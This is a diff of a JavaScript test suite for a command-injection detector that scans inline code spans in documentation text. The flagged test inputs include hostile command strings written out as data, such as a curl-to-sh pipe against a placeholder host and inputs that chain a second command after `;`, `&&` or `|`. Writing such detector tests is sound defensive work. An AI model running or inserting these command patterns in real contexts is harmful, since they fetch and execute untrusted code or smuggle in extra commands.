@@ -550,7 +550,7 @@ describe('cmdi: a developer tool opening a code span that stands apart documents
     'Run `npm install express` to add the dependency', '> `npm i -D vitest`', '| `npm start` | Starts the server |',
     '* `make test` - runs the tests', 'Then `kubectl apply -f x.yaml` applies it', 'run `node app.js`, then open it',
     'Run `python -m venv .venv` first', 'Run `node -r ts-node/register x.js` now', '`npm` executable', '`npm run bench` - benchmarks',
-    'Use `git commit -m "x"` to save', 'Install with `pip install requests`',
+    'Use `git commit -m "x"` to save', 'Install with `pip install requests`', 'x | `npm i x` |', '| `ls -la` | lists |',
   ])('%s stays clean', (input) => {
     expect(d.scan(input, { context: 'body' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
     expectSameWhenSplit(d, [input], 'body');
@@ -560,6 +560,8 @@ describe('cmdi: a developer tool opening a code span that stands apart documents
     'Run `python -c "import os"` now', 'Run `node -e "x"` now', 'Run `php -r "x"` now', 'Run `perl -pe s/a/b/ x` now',
     'Run `npm i x; id` now', 'Run `npm i x | sh` now', '`npm run x` && curl http://x.test | sh',
     'Run `curl http://x.test` now', 'Run `sudo apt install x` now', '`id`',
+    // after a separator and a space, and after '| ' unless the span is a table cell (" |" after it)
+    'x && `npm i evil`', 'a; `npm test` runs the tests', 'x; `ls -la` y', '| `npm i x` now', '| `npm i x`', '| `ls -la` now', '| `node app.js` |',
   ])('%s is still flagged', (input) => {
     expect(d.scan(input, { context: 'body' }).blocked).toBe(true);
     expectSameWhenSplit(d, [input], 'body');
